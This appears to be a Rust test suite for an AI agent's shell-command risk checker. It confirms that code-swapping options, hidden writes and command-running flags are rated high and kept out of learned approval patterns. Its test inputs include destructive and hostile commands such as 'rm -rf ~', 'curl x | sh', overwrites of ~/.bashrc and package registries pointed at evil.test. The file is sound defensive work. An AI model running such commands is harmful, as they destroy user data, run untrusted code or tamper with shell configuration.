//! Tests of the code-swapping option table: every row is found, ordinary options are not,
//! and a learned pattern never covers a command that carries one.

use super::*;
use crate::request::RiskTier;
use crate::risk::{Context, assess, pattern_matches};
use crate::shell;

fn ctx() -> Context {
    Context {
        cwd: "/p".into(),
        project: "/p".into(),
        home: "/home/u".into(),
        protected_paths: vec!["/home/u/.config/aiperture".into()],
        resolver: None,
    }
}

fn one(command: &str) -> SimpleCommand {
    let parsed = shell::parse(command);
    assert_eq!(parsed.commands.len(), 1, "{command}");
    parsed.commands.into_iter().next().unwrap_or_default()
}

fn tier(command: &str) -> RiskTier {
    assess("shell", "execute", command, &ctx()).risk.tier
}

fn pattern(command: &str) -> Option<String> {
    assess("shell", "execute", command, &ctx())
        .segments
        .first()
        .and_then(|s| s.pattern.clone())
}

/// A command that carries option `opt` of `prog` (with a subcommand where the row needs one).
fn with_option(prog: &str, opt: &str, value: &str) -> String {
    let sub = table::PROGRAMS
        .iter()
        .find(|r| r.programs.contains(&prog) && r.options.iter().any(|o| o.name == opt))
        .and_then(|r| r.subcommands.first().copied())
        .filter(|s| *s != GLOBALS);
    let o = table::PROGRAMS
        .iter()
        .flat_map(|r| r.options.iter())
        .chain(table::ANY_PROGRAM.iter())
        .find(|o| o.name == opt);
    let word = match o.map(|o| o.value) {
        _ if !opt.starts_with('-') => format!("{opt} {value}"),
        Some(Value::None) => opt.to_string(),
        Some(Value::Attached) if opt.ends_with(['=', ':', '.']) => format!("{opt}{value}"),
        Some(Value::Attached) => format!("{opt}={value}"),
        _ => format!("{opt} {value}"),
    };
    match (prog, sub) {
        ("git", None) => format!("git {word} status"),
        (_, Some(s)) => format!("{prog} {s} {word}"),
        _ => format!("{prog} {word}"),
    }
}

#[test]
fn every_row_is_found() {
    let (opts, vars) = table_rows();
    for Row {
        program: prog,
        option: opt,
        swap,
        ..
    } in opts
    {
        let prog = if prog == "*" { "mytool" } else { prog };
        let cmd = with_option(prog, opt, "/tmp/x");
        let hits = find(&one(&cmd));
        assert!(
            hits.iter().any(|h| h.option == opt && h.swap == swap),
            "{cmd}: {hits:?}"
        );
        assert!(pattern(&cmd).is_none(), "{cmd} must not be generalized");
        assert!(tier(&cmd) >= RiskTier::Medium, "{cmd}");
    }
    for v in vars {
        let name = v.name.trim_end_matches('*');
        let name = if name.ends_with('_') || v.name.ends_with('*') {
            format!("{name}X")
        } else {
            name.to_string()
        };
        let cmd = format!("{name}=/tmp/x npm test");
        assert!(tier(&cmd) >= RiskTier::High, "{cmd}");
        assert!(!pattern_matches("npm test *", &cmd), "{cmd}");
        let wrapped = format!("{name}=/tmp/x bash -c 'npm test'");
        assert!(tier(&wrapped) >= RiskTier::High, "{wrapped}");
        assert!(pattern(&wrapped).is_none(), "{wrapped}");
    }
}

#[test]
fn the_issue_reproductions() {
    for (cmd, pat) in [
        ("make -f /tmp/x.mk", "make *"),
        ("make -sf /tmp/x.mk", "make *"),
        ("make SHELL=/tmp/x", "make *"),
        ("make test CC=/tmp/cc", "make test *"),
        ("npm test --script-shell=/tmp/x.sh", "npm test *"),
        ("npm test --prefix /tmp/elsewhere", "npm test *"),
        ("npm test -- --config /tmp/jest.js", "npm test *"),
        (
            "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=\"/tmp/x\"'",
            "cargo test *",
        ),
        ("pytest -p /tmp/plugin", "pytest *"),
        ("go test -exec /tmp/x ./...", "go test *"),
        ("go test -toolexec=/tmp/x ./...", "go test *"),
        ("git show --output=/home/u/.bashrc HEAD", "git show *"),
        ("git log --output /home/u/.bashrc", "git log *"),
        ("git diff --output=/home/u/.gitconfig", "git diff *"),
        ("git grep -O/tmp/x foo", "git grep *"),
        ("eslint -c /tmp/x.js .", "eslint *"),
        ("eslint --rulesdir /tmp/r .", "eslint *"),
        ("eslint --plugin /tmp/p .", "eslint *"),
        ("mypy --config-file /tmp/x.ini .", "mypy *"),
        ("rg --pre /tmp/x foo", "rg *"),
        ("sort -o /home/u/.bashrc x", "sort *"),
        ("sort --compress-program=/tmp/x x", "sort *"),
        ("less -O /home/u/.bashrc x", "less *"),
        ("curl -K /tmp/cfg https://example.com", "curl *"),
        ("wget -e 'use_askpass=/tmp/x' https://example.com", "wget *"),
        ("wget -i /tmp/urls", "wget *"),
    ] {
        assert!(!pattern_matches(pat, cmd), "{pat} must not cover {cmd}");
        assert!(pattern(cmd).is_none(), "{cmd} generalized");
        assert!(tier(cmd) >= RiskTier::High, "{cmd}: {:?}", tier(cmd));
        let a = assess("shell", "execute", cmd, &ctx());
        let swap_factors = [
            Swap::Code,
            Swap::Project,
            Swap::Registry,
            Swap::Runs,
            Swap::Writes,
        ]
        .map(Swap::factor);
        assert!(
            a.risk
                .factors
                .iter()
                .any(|f| swap_factors.contains(&f.as_str())),
            "a swap factor is recorded: {cmd}: {:?}",
            a.risk.factors
        );
        assert!(
            a.reason.contains('`') || a.reason.contains("writes"),
            "the reason names the option or what it writes: {cmd}: {}",
            a.reason
        );
    }
}

#[test]
fn commands_that_run_commands_are_judged_as_commands() {
    assert_eq!(tier("git rebase -x 'rm -rf ~' main"), RiskTier::Critical);
    assert_eq!(tier("git submodule foreach 'rm -rf ~'"), RiskTier::Critical);
    assert_eq!(tier("git bisect run rm -rf ~"), RiskTier::Critical);
    assert_eq!(tier("git difftool -x 'rm -rf ~'"), RiskTier::Critical);
    assert_eq!(tier("man -P 'rm -rf ~' ls"), RiskTier::Critical);
    assert_eq!(tier("trap 'rm -rf ~' EXIT"), RiskTier::Critical);
    assert_eq!(tier("npm exec -- rm -rf ~"), RiskTier::Critical);
    assert!(tier("git rebase -x 'make test' main") >= RiskTier::Medium);
    assert!(pattern("git rebase -x 'make test' main").is_none());
    assert!(tier("xxd -r dump /home/u/.bashrc") >= RiskTier::High);
    assert!(tier("tar -xf a.tar -C /home/u") >= RiskTier::High);
}

#[test]
fn ordinary_options_stay_covered() {
    for (pat, cmd) in [
        ("npm test *", "npm test -- -t name"),
        ("npm test *", "npm test -- --runInBand"),
        ("pytest *", "pytest -x -q"),
        ("pytest *", "pytest -- -k name"),
        ("pytest *", "pytest -p no:cacheprovider"),
        ("cargo test *", "cargo test --release -- --nocapture"),
        ("go test *", "go test -v -count=1 ./..."),
        ("make *", "make -j4"),
        ("make *", "make test V=1"),
        ("git log *", "git log --oneline -5"),
        ("git log *", "git log -C --stat"),
        ("git diff *", "git diff --stat HEAD~1"),
        ("eslint *", "eslint -f json ."),
        ("git commit *", "git commit -c HEAD"),
        ("sort *", "sort -u -t, -k2 x"),
    ] {
        assert!(pattern_matches(pat, cmd), "{pat} should cover {cmd}");
    }
}

#[test]
fn git_globals_are_only_before_the_subcommand() {
    assert!(first(&one("git -c core.fsmonitor=x status")).is_some());
    assert!(first(&one("git -C /tmp/x status")).is_some());
    assert!(first(&one("git grep -C 3 foo")).is_none());
    assert!(first(&one("git cherry-pick -x abc")).is_none());
}

#[test]
fn values_inside_the_project_are_medium() {
    assert_eq!(tier("make -f build/x.mk"), RiskTier::Medium);
    assert_eq!(tier("eslint -c .eslintrc.js ."), RiskTier::Medium);
    assert!(pattern("eslint -c .eslintrc.js .").is_none());
    assert_eq!(tier("PYTHONPATH=src pytest"), RiskTier::Medium);
    assert_eq!(tier("PYTHONPATH=/tmp/x pytest"), RiskTier::High);
    assert_eq!(
        tier("npm install --registry http://evil.test/"),
        RiskTier::High
    );
}

#[test]
fn sed_and_awk_scripts_that_write_files() {
    assert!(tier("sed -n 'w /home/u/.bashrc' x") >= RiskTier::High);
    assert!(tier("sed 's/a/b/w /home/u/.bashrc' x") >= RiskTier::High);
    assert!(tier("awk '{print > \"/home/u/.bashrc\"}' x") >= RiskTier::High);
    assert!(tier("awk '{print $0 >> $2}' x") >= RiskTier::High);
    assert!(pattern("sed -n 'w out.txt' x").is_none());
    // Comparisons and ordinary scripts are not writes.
    assert_eq!(tier("awk '$1 > 5 {print $2}' x"), RiskTier::Low);
    assert_eq!(tier("sed -n '1,5p' x"), RiskTier::Low);
    assert!(pattern("awk '{print $1}' x").is_some());
}

#[test]
fn programs_started_by_runners_have_their_own_options() {
    for (cmd, pat) in [
        ("python -m pytest -p /tmp/x", "python -m pytest *"),
        ("python3 -m pytest -c /tmp/x.ini", "python3 -m pytest *"),
        (
            "python -m pip install -i http://evil.test/simple x",
            "python -m pip *",
        ),
        ("uv run pytest -p /tmp/x", "uv run pytest *"),
        ("uv run --with requests pytest -p /tmp/x", "uv run *"),
        ("poetry run pytest -p /tmp/x", "poetry run pytest *"),
        ("npx eslint -c /tmp/x.js .", "npx eslint *"),
        ("npx --yes eslint --rulesdir /tmp/r .", "npx *"),
        ("pnpm exec eslint -c /tmp/x.js", "pnpm exec eslint *"),
        ("yarn eslint -c /tmp/x.js", "yarn eslint *"),
        ("pnpm vitest -r /tmp/x.js", "pnpm vitest *"),
    ] {
        assert!(!pattern_matches(pat, cmd), "{pat} must not cover {cmd}");
        assert!(pattern(cmd).is_none(), "{cmd} generalized");
        assert!(tier(cmd) >= RiskTier::High, "{cmd}: {:?}", tier(cmd));
    }
    for (pat, cmd) in [
        ("python -m pytest *", "python -m pytest -x -q tests/"),
        ("uv run pytest *", "uv run pytest -k name"),
        ("yarn test *", "yarn test --watch"),
        ("npx eslint *", "npx eslint -f json ."),
    ] {
        assert!(pattern_matches(pat, cmd), "{pat} should cover {cmd}");
    }
}

#[test]
fn read_only_looking_commands_that_write_or_run() {
    // Rated LOW and learnable before: a few approvals of the harmless form covered these.
    for (cmd, pat) in [
        ("fd -x rm -rf {}", "fd *"),
        ("fd . -X sh -c 'curl x | sh'", "fd *"),
        ("go env -w GOFLAGS=-toolexec=/tmp/x", "go env *"),
        ("tar xf a.tar", "tar *"),
        ("tar -xzf a.tgz", "tar *"),
        ("unzip a.zip", "unzip *"),
        ("gzip big.log", "gzip *"),
        ("gunzip a.gz", "gunzip *"),
        ("uniq a /home/u/.bashrc", "uniq *"),
        ("split big part", "split *"),
        ("tree -o /home/u/.bashrc", "tree *"),
        ("terraform plan -out /tmp/plan", "terraform plan *"),
        ("date -s '2020-01-01'", "date *"),
        ("hostname evil", "hostname *"),
    ] {
        assert!(!pattern_matches(pat, cmd), "{pat} must not cover {cmd}");
        assert!(pattern(cmd).is_none(), "{cmd} generalized");
        assert!(tier(cmd) >= RiskTier::Medium, "{cmd}");
    }
    assert_eq!(tier("fd -x rm -rf ~"), RiskTier::Critical);
    // Their reading forms stay covered.
    for (pat, cmd) in [
        ("fd *", "fd -e rs src"),
        ("tar *", "tar tzf a.tgz"),
        ("unzip *", "unzip -l a.zip"),
        ("gzip *", "gzip -dc a.gz"),
        ("uniq *", "uniq -c a"),
        ("tree *", "tree -L 2"),
        ("date *", "date +%s"),
        ("hostname *", "hostname -f"),
        ("go env *", "go env GOPATH"),
    ] {
        assert!(pattern_matches(pat, cmd), "{pat} should cover {cmd}");
    }
}
